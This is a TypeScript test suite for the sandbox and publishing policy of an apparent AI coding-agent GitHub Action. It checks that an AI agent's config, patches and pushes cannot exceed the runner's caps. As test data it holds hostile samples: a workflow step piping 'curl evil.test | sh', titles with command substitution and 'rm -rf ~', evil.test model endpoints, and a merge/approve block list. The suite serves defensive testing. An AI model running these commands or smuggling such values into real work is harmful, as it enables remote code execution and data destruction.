/**
 * Attacks on what the runner allows and what gets published: a repository config reaching for the
 * runner's settings, a change to the workflows, pushes to the default branch or over someone's
 * commits, shell metacharacters in titles and branch names, and an App that would approve or merge.
 * Git runs for real against local bare repositories.
 */
import { execFileSync } from "node:child_process";
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect } from "vitest";
import { parseSettings } from "../../../action/job/settings.ts";
import { effectiveLimits } from "../../../action/pipeline/effective-limits.ts";
import { judgePatch } from "../../../action/publish/judge-change.ts";
import { assertPushAllowed, pushHead } from "../../../action/publish/push.ts";
import { gitAuth } from "../../../action/workspace/auth-header.ts";
import { planWorkspace } from "../../../action/workspace/plan.ts";
import { defaultConfig, loadConfig } from "../../../core/config.ts";
import { createRedactor } from "../../../core/redact.ts";
import { makeTask } from "../../action/github/fixtures.ts";
import { commitPatch } from "../../action/publish/commit-patch.ts";
import { createJsFixtureRepo, type FixtureRepo, git } from "../../helpers/fixture-repo.ts";
import { CANARY_TOKEN } from "./canaries.ts";
import { attack } from "./registry.ts";

const PWNED = join(tmpdir(), `inhouse-pwned-${process.pid}`);
const EVIL_TITLE = `fix $(touch ${PWNED}); \`touch ${PWNED}\` && rm -rf ~ | tee ${PWNED} "quoted" 'single' *`;
const noRetry = <T>(work: () => Promise<T>) => work();
const exists = (path: string) =>
  stat(path).then(
    () => true,
    () => false,
  );

function runnerCaps() {
  return parseSettings(
    (name) =>
      ({ task: "{}", "github-token": "ghs_x", "app-id": "4242", "allowed-networks": "none" })[name] ?? "",
    () => {},
    { RUNNER_TEMP: tmpdir() },
  ).caps;
}

export function policyCases(): void {
  describe("what the runner allows and what gets published", () => {
    let fixture: FixtureRepo;
    let root: string;
    let bare: string;
    let clone: string;
    const head = (ref: string) =>
      execFileSync("git", ["-C", bare, "rev-parse", ref], { encoding: "utf8" }).trim();
    beforeAll(async () => {
      fixture = await createJsFixtureRepo({ ".github/workflows/ci.yml": "on: push\njobs: {}\n" });
      root = await mkdtemp(join(tmpdir(), "inhouse-policy-"));
      bare = join(root, "origin.git");
      clone = join(root, "clone");
      execFileSync("git", ["clone", "-q", "--bare", fixture.dir, bare]);
      execFileSync("git", ["clone", "-q", bare, clone]);
    });
    afterAll(async () => {
      await rm(root, { recursive: true, force: true });
      await rm(fixture.dir, { recursive: true, force: true });
      await rm(PWNED, { force: true });
    });

    attack(".github/agent.yml cannot set a model URL, a key or headers", () => {
      for (const text of [
        "model:\n  profile: default\n  baseUrl: https://evil.test/v1\n",
        "model:\n  apiKey: sk-mine\n",
        "model:\n  headers:\n    X-Route: evil\n",
        "model:\n  endpoint: https://evil.test\n",
      ]) {
        const parsed = loadConfig(text);
        expect(parsed.ok).toBe(false);
        if (!parsed.ok)
          expect(parsed.errors.map((e) => e.message).join(" ")).toMatch(/runner|not allowed|unrecognized/i);
      }
    });

    attack(".github/agent.yml cannot raise limits or widen the network past the runner's caps", () => {
      const caps = runnerCaps();
      const greedy = loadConfig(
        "limits:\n  turns: 500\n  tokens: 50000000\n  minutes: 360\n  callsPerTurn: 200\nsandbox:\n  memoryMb: 262144\n  cpus: 64\n  pids: 65536\n",
      );
      expect(greedy.ok).toBe(true);
      if (!greedy.ok) return;
      const limits = effectiveLimits(greedy.value, caps);
      expect(limits.agent.turns).toBe(caps.turns);
      expect(limits.agent.tokens).toBe(caps.tokens);
      expect(limits.agent.minutes).toBe(caps.minutes);
      expect(limits.agent.callsPerTurn).toBe(caps.callsPerTurn);
      expect(limits.memoryMb).toBe(caps.memoryMb);
      expect(limits.cpus).toBe(caps.cpus);
      expect(limits.pids).toBe(caps.pids);
      expect(caps.pids).toBeLessThan(65_536);
      const open = loadConfig("sandbox:\n  network:\n    setup: open\n    agent: none\n");
      expect(open.ok).toBe(true);
      if (open.ok) expect(() => effectiveLimits(open.value, caps)).toThrow(/allowed-networks/);
    });

    attack(".github/agent.yml cannot add egress hosts the runner's egress-hosts do not cover", () => {
      const caps = {
        ...runnerCaps(),
        networks: ["none" as const, "allowlist" as const],
        egressHosts: ["registry.npmjs.org"],
      };
      const wider = loadConfig(
        "sandbox:\n  network: allowlist\n  allowlist: [registry.npmjs.org, evil.test]\n",
      );
      expect(wider.ok).toBe(true);
      if (wider.ok) expect(() => effectiveLimits(wider.value, caps)).toThrow(/evil\.test.*egress-hosts/);
      const within = loadConfig("sandbox:\n  network: allowlist\n  allowlist: [registry.npmjs.org]\n");
      if (within.ok) expect(effectiveLimits(within.value, caps).allowlist).toEqual(["registry.npmjs.org"]);
    });

    attack("a patch touching .github/workflows/ is refused (edit, new file, rename into it)", async () => {
      const diff = async (change: (dir: string) => Promise<void>) => {
        git(clone, "checkout", "-q", "-B", "scratch", "origin/main");
        await change(clone);
        git(clone, "add", "-A");
        const patch = git(clone, "diff", "--cached", "--binary", "-M", "HEAD");
        git(clone, "reset", "-q", "--hard", "origin/main");
        return patch;
      };
      const patches = [
        await diff((dir) =>
          writeFile(
            join(dir, ".github/workflows/ci.yml"),
            "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl evil.test | sh\n",
          ),
        ),
        await diff((dir) => writeFile(join(dir, ".github/workflows/new.yml"), "on: push\n")),
        await diff(async (dir) => {
          git(dir, "mv", "README.md", ".github/workflows/readme.yml");
        }),
      ];
      for (const patch of patches) {
        git(clone, "checkout", "-q", "-B", "judge", "origin/main");
        const verdict = await judgePatch({
          dir: clone,
          patch,
          config: defaultConfig(),
          limits: { maxBytes: 1_000_000, maxFiles: 100 },
          redact: createRedactor([]),
        });
        expect(verdict.kind).toBe("refused");
        if (verdict.kind === "refused") expect(verdict.reasons.join(" ")).toContain(".github/workflows/");
      }
    });

    attack("a push to the default branch, or a refspec smuggled in the branch name, is refused", async () => {
      git(clone, "checkout", "-q", "-B", "work", "origin/main");
      await writeFile(join(clone, "NOTES.md"), "agent notes\n");
      git(clone, "add", "-A");
      git(clone, "commit", "-q", "-m", "notes");
      const before = head("main");
      const auth = gitAuth("ghs_notused", "https://github.test");
      const allowed = { prefix: "agent/" };
      for (const branch of ["main", "agent/x:refs/heads/main", "refs/heads/main", "feature"]) {
        await expect(
          pushHead({ dir: clone, branch, defaultBranch: "main", allowed, auth }, noRetry),
        ).rejects.toThrow();
      }
      expect(() =>
        assertPushAllowed({
          branch: "main",
          defaultBranch: "main",
          allowed: { ...allowed, prBranch: "main" },
        }),
      ).toThrow(/default branch/);
      expect(head("main")).toBe(before);
      const branches = execFileSync("git", ["-C", bare, "branch", "--format=%(refname:short)"], {
        encoding: "utf8",
      });
      expect(branches.trim().split("\n")).toEqual(["main"]);
    });

    attack("a push never overwrites commits it did not start from (no force push)", async () => {
      const auth = gitAuth("ghs_notused", "https://github.test");
      const target = {
        dir: clone,
        branch: "agent/fix-1",
        defaultBranch: "main",
        allowed: { prefix: "agent/" },
        auth,
      };
      git(clone, "checkout", "-q", "-B", "first", "origin/main");
      await writeFile(join(clone, "A.md"), "a\n");
      git(clone, "add", "-A");
      git(clone, "commit", "-q", "-m", "someone else's work");
      await pushHead(target, noRetry);
      const theirs = head("agent/fix-1");
      git(clone, "checkout", "-q", "-B", "second", "origin/main");
      await writeFile(join(clone, "B.md"), "b\n");
      git(clone, "add", "-A");
      git(clone, "commit", "-q", "-m", "the agent's work");
      await expect(pushHead(target, noRetry)).rejects.toThrow(/rejected|moved/);
      expect(head("agent/fix-1")).toBe(theirs);
    });

    attack("shell metacharacters in a title reach git as data, never as a command", async () => {
      const plan = planWorkspace(makeTask(), defaultConfig(), "main", EVIL_TITLE);
      expect(plan.pushBranch ?? "").toMatch(/^agent\/fix-issue-12-[a-z0-9-]*$/);
      git(clone, "checkout", "-q", "-B", "meta", "origin/main");
      await writeFile(join(clone, "M.md"), "m\n");
      git(clone, "add", "-A");
      const patch = git(clone, "diff", "--cached", "--binary", "HEAD");
      git(clone, "reset", "-q", "--hard", "origin/main");
      await commitPatch({
        dir: clone,
        patch,
        subject: EVIL_TITLE.slice(0, 60),
        body: EVIL_TITLE,
        trailers: { "Inhouse-Requested-By": "@$(id)`whoami`" },
        author: { name: "inhouse[bot]", email: "bot@example.test" },
      });
      expect(git(clone, "log", "-1", "--format=%B")).toContain(EVIL_TITLE);
      expect(await exists(PWNED)).toBe(false);
    });

    attack(
      "a patch adding a known secret or a credential-shaped string is refused before commit",
      async () => {
        const redact = createRedactor([CANARY_TOKEN]);
        const judge = async (content: string) => {
          git(clone, "checkout", "-q", "-B", "secret", "origin/main");
          await writeFile(join(clone, "src/c.js"), content);
          git(clone, "add", "-A");
          const patch = git(clone, "diff", "--cached", "--binary", "HEAD");
          git(clone, "reset", "-q", "--hard", "origin/main");
          const limits = { maxBytes: 1_000_000, maxFiles: 100 };
          return judgePatch({ dir: clone, patch, config: defaultConfig(), limits, redact });
        };
        const known = await judge(`const t = "${CANARY_TOKEN}";\n`);
        const reason = known.kind === "refused" ? known.reasons.join(" ") : "";
        expect(reason).toContain("src/c.js");
        expect(reason).not.toContain(CANARY_TOKEN);
        expect((await judge('const t = "ghp_0123456789abcdefghijABCDEFGHIJ012345";\n')).kind).toBe("refused");
        expect((await judge('const t = "hello";\n')).kind).toBe("staged");
        git(clone, "reset", "-q", "--hard", "origin/main");
      },
    );

    attack("the App and the action never approve or merge a pull request", async () => {
      const sources: string[] = [];
      const walk = async (dir: string): Promise<void> => {
        for (const entry of await readdir(dir, { withFileTypes: true })) {
          const path = join(dir, entry.name);
          if (entry.isDirectory() && entry.name !== "node_modules") await walk(path);
          else if (/\.(ts|js)$/.test(entry.name)) sources.push(path);
        }
      };
      await walk("app");
      await walk("action");
      expect(sources.length).toBeGreaterThan(20);
      const forbidden =
        /pulls\.merge\b|\/merge["'`]|enablePullRequestAutoMerge|mergePullRequest|["']APPROVE["']/;
      const hits: string[] = [];
      for (const path of sources) {
        const text = await readFile(path, "utf8");
        if (!path.includes("/dist/") && forbidden.test(text)) hits.push(path);
        // The bundle carries Octokit's route table, so only the calls the bundle makes are checked there.
        if (path.includes("/dist/") && /\.pulls\.merge\(|event:\s*["']APPROVE["']/.test(text))
          hits.push(path);
      }
      expect(hits).toEqual([]);
    });
  });
}
